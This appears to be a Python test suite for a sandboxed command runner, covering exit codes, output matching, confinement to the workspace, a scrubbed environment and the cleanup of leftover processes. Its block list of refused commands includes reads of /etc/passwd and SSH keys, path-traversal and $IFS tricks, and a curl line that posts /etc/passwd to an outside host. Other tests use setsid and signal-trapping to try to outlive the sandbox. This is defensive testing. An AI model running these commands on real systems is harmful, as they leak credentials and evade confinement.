"""Checks by a command: how it ends, what it prints, what it sees, and that nothing of it is left."""

import os
import select
import signal
import subprocess
import sys
from pathlib import Path
from unittest import mock
from uuid import uuid4

from checked import Checked, pids, running

from harness.expect import expect, expect_equal, proves
from threadrebuild.checking import running as runner
from threadrebuild.collab import bounds


def expect_commands_run(at: Checked) -> None:
    """A command of the workspace runs, with a time that it may take: what all checks here build on."""
    expect("CHK-03", at.command("true", timeout_s=9).outcome != "out_of_bounds", "it looks at nothing outside")
    expect("CHK-04", at.command("true", timeout_s=9).outcome != "error", "nine seconds are no wrong time")


@proves("CHK-01")
def test_a_command_ends_with_the_exit_code_that_it_should(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    expect_commands_run(at)
    for command, body, wanted in (
        ("true", {}, ("passed", "ended as expected")),
        ("exit 1", {}, ("failed", "exit")),
        ("exit 3", {"exit_code": 3}, ("passed", "ended as expected")),
        ("true", {"exit_code": 3}, ("failed", "exit")),
        ("kill -9 $$", {}, ("failed", "exit")),
        ("没有这个命令", {"exit_code": 127}, ("passed", "ended as expected")),
    ):
        ran = at.command(command, **body)
        expect_equal("CHK-01", (ran.outcome, ran.detail["says"]), wanted, f"{command} {body}")


@proves("CHK-03")
def test_a_command_runs_at_the_workspaces_root_or_in_a_folder_of_it(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    at.file("site/index.html")
    for command, folder, outcome in (
        ("test -s site/index.html", "", "passed"),
        ("test -s index.html", "", "failed"),
        ("test -s index.html", "site", "passed"),
        ("test -s ../site/index.html", "site", "passed"),
        ("cd site && test -s ../site/index.html", "", "passed"),
    ):
        expect_equal("CHK-03", at.command(command, folder=folder).outcome, outcome, f"{command} in {folder!r}")


@proves("CHK-02")
def test_an_output_is_compared_without_what_nobody_sees(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    expect_commands_run(at)
    for wanted, outcome in (("a", "passed"), ("b", "failed")):
        expect_equal("CHK-01", at.command("printf a", output=wanted).outcome, outcome, f"a against {wanted}")
    for printed, wanted, outcome in (
        (r"a\nb", "a\nb", "passed"),
        (r"a\nb\n", "a\nb", "passed"),
        (r"a \t\nb  \n\n \n", "a\nb", "passed"),
        (r"a\nb", "a  \nb\n\n", "passed"),
        (r" a\nb", "a\nb", "failed"),
        (r"a\n\nb", "a\nb", "failed"),
        (r"\na\nb", "a\nb", "failed"),
        (r"a\nb\nc", "a\nb", "failed"),
        (r"", "", "passed"),
        (r"a", "", "failed"),
    ):
        ran = at.command(f"printf '{printed}'", output=wanted)
        expect_equal("CHK-02", ran.outcome, outcome, f"{printed!r} against {wanted!r}")
    expect_equal("CHK-02", at.command("echo a; echo warning >&2", output="a").outcome, "passed", "beside a warning")


LEAVING = (
    "cat ../secret.txt",
    "cat '../secret.txt'",
    'cat ".."/secret.txt',
    ".\\./secret",
    "cat <../secret.txt",
    "cat report/../../secret.txt",
    "cat /etc/passwd",
    "sh -c 'cat \"/etc/passwd\"'",
    "python3 -c \"print(open('/etc/passwd').read())\"",
    "cat$IFS/etc/passwd",
    "X=/etc; cat $X/passwd",
    "cat ~/.ssh/id_rsa",
    "cat $HOME/x",
    "cat ${HOME}/x",
    "cat ${HOME:-x}/x",
    "cd; ls",
    "cd && ls",
    "cd - && ls",
    "cd ..; ls",
    "cd site; cat ../secret.txt",
    "cd nowhere || cat ../secret.txt",
    "(cd site && ls); cat ../secret.txt",
    "cp a.md -t/tmp",
    "gcc -I../include a.c",
    "curl -d @/etc/passwd http://example.org",
    "curl file:///etc/passwd",
    "tar --file=/tmp/x.tar -c .",
    "echo x > /tmp/x",
    "PATH=a:/tmp/x tool",
)
STAYING = (
    "make test",
    "npm run build && test -s dist/index.html",
    "/usr/bin/python3 tools/count.py report/*.md",
    "grep -c 三个月 report/结论.md > /dev/null 2>&1",
    "cd site && test -s ../report/a.md",
    "wc -l a.md | awk '{print $1}'",
    "for f in a b; do test -s out/$f/index.html; done",
    "sed -n 's/a/b/p' a.md",
    "test -s $PWD/a.md",
    'test -s "$(pwd)/a.md"',
    "curl -fsS https://example.org/a/../b",
)


@proves("CHK-03")
def test_a_command_that_names_something_outside_is_not_run(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    for command in LEAVING:
        expect("CHK-03", bounds.command_leaves(command), f"{command} leaves")
        ran = at.command(f"touch ran; {command}")
        expect_equal("CHK-03", (ran.outcome, ran.tail), ("out_of_bounds", ""), command)
    expect("CHK-03", not (at.workspace / "ran").exists(), "none has run")
    for command in STAYING:
        expect("CHK-03", not bounds.command_leaves(command), f"{command} stays")
    for folder in ("..", "/", "site/../..", "~"):
        expect_equal("CHK-03", at.command("true", folder=folder).outcome, "out_of_bounds", f"in {folder}")


@proves("CHK-03")
def test_a_command_that_a_link_leads_outside_is_not_run(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    at.file("site/a.md")
    (at.workspace / "site" / "link").symlink_to(tmp_path)
    (at.workspace / "run").symlink_to("/bin/sh")
    (at.workspace / "way in").symlink_to("site")
    for command, folder in (
        ("cat site/link/secret.txt", ""),
        ("cat link/secret.txt", "site"),
        ("cd site && cat link/secret.txt", ""),
        ("cat */link/secret.txt", ""),
        ("for f in link; do cat site/$f/secret.txt; done", ""),
        ("./run -c ls", ""),
        ("ls", "site/link"),
        ("cat --file=site/link/secret.txt", ""),
    ):
        ran = at.command(command, folder=folder)
        expect_equal("CHK-03", (ran.outcome, ran.tail), ("out_of_bounds", ""), f"{command} in {folder!r}")
    expect_equal("CHK-03", at.command("test -s 'way in/a.md'").outcome, "passed", "a link that stays within")


@proves("CHK-04")
def test_a_command_has_the_environment_of_a_terminal_and_nothing_else(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    expect_commands_run(at)
    given = {"SSH_AUTH_SOCK": "/run/agent", "THREADREBUILD_TOKEN": "secret", "PYTHONPATH": "x", "LANG": "zh_CN.UTF-8"}
    with mock.patch.dict(os.environ, given):
        ran = at.command("env")
    names = {line.partition("=")[0] for line in ran.tail.splitlines()}
    # What a shell sets by itself.
    names -= {"PWD", "SHLVL", "_", "OLDPWD"}
    expect("CHK-04", names <= set(runner.ENVIRONMENT), f"only a terminal's variables: {sorted(names)}")
    expect("CHK-04", {"PATH", "LANG"} <= names, "but those")
    expect("CHK-04", not names & {"SSH_AUTH_SOCK", "THREADREBUILD_TOKEN", "PYTHONPATH"}, "none of the daemon's own")


@proves("CHK-04")
def test_a_command_runs_under_sh_in_a_process_group_of_its_own(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    expect_commands_run(at)
    group, shell = at.command("ps -o pgid= -p $$; readlink -f /bin/sh > /dev/null; echo $0").tail.split()
    expect("CHK-04", int(group) != os.getpgid(0), "a group of its own")
    expect_equal("CHK-04", shell, "/bin/sh", "its shell")


@proves("CHK-04")
def test_nothing_of_a_command_is_left_when_it_ends_or_its_time_is_up(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    expect_commands_run(at)
    for command, outcome in (
        ("sleep {} & exit 0", "passed"),
        ("sleep {} & wait", "failed"),
        ("setsid sleep {} & exit 0", "passed"),
        ("env -i setsid sh -c 'sleep {} & sleep {}' & exit 0", "passed"),
        ("(setsid sh -c 'trap \"\" TERM HUP; sleep {} & sleep {}; sleep {}' &) ; sleep {}", "failed"),
        ("exec >&- 2>&-; sleep {}", "failed"),
        ("kill -STOP $$; sleep {}", "failed"),
        ("sleep {} & kill -9 $PPID; sleep {}", "failed"),
        ("sh -c 'for i in 1 2 3 4 5 6 7 8; do sh -c \"sleep {} & sleep {}\" & done'; wait; sleep {}", "failed"),
    ):
        # A time that no other process of this machine sleeps, to know it by.
        mark = f"{1000 + uuid4().int % 10**6}.{uuid4().int % 10**9}"
        ran = at.command(command.replace("{}", mark), limit_s=0.3)
        left = running(mark)
        for pid in pids(mark):
            os.kill(pid, signal.SIGKILL)
        expect_equal("CHK-04", left, [], f"{command}: what is left")
        expect_equal("CHK-04", ran.outcome, outcome, command)


@proves("CHK-04")
def test_a_command_has_its_time_and_no_more_than_the_longest(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    expect("CHK-03", at.command("true").outcome != "out_of_bounds", "a command of the workspace")
    given: list[float] = []

    def run(command: object, folder: Path, seconds: float) -> runner.Ended:
        given.append(round(seconds))
        return runner.Ended(None, b"", False, "")

    with mock.patch.object(runner, "run", run):
        ran = at.command("true")
        for seconds in (1, 600, 0, 601):
            at.command("true", timeout_s=seconds)
        at.command("true", limit_s=7)
    expect_equal("CHK-04", given, [120, 1, 600, 7], "the seconds that a command may take")
    expect_equal("CHK-04", ran.outcome, "failed", "one that runs out of them")
    expect_equal("CHK-04", ran.detail, {"says": "timed out", "seconds": 120}, "and what is said of it")


def test_a_command_ends_with_whoever_has_it_run(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    mark = f"{1000 + uuid4().int % 10**6}.{uuid4().int % 10**9}"
    os.mkfifo(at.workspace / "begun")
    code = (
        "import sys, pathlib; from threadrebuild.checking import running;"
        f"running.run(['/bin/sh', '-c', 'setsid sleep {mark} & echo > begun; wait'], pathlib.Path('.'), 60)"
    )
    path = str(Path(runner.__file__).parents[2])
    daemon = subprocess.Popen([sys.executable, "-c", code], cwd=at.workspace, env={**os.environ, "PYTHONPATH": path})
    with daemon:
        (at.workspace / "begun").read_text()
        kept = [os.pidfd_open(pid) for pid in pids(mark)]
        daemon.kill()
        assert kept
        for handle in kept:
            ended = select.poll()
            ended.register(handle, select.POLLIN)
            assert ended.poll(20_000), "it has ended"
            os.close(handle)


def test_a_command_that_prints_a_gigabyte_is_kept_in_its_end(tmp_path: Path) -> None:
    at = Checked(tmp_path)
    ran = at.command("yes 0123456789 2> /dev/null | head -c 1000000000; echo; echo 完", output="0123456789")
    assert (ran.outcome, ran.detail["says"]) == ("failed", "output differs")
    assert ran.tail.endswith("\n完\n")
    assert len(ran.tail) <= runner.TAIL_BYTES


def test_a_command_reads_nothing_from_the_daemons_own_input(tmp_path: Path) -> None:
    assert Checked(tmp_path).command("cat", output="").outcome == "passed"
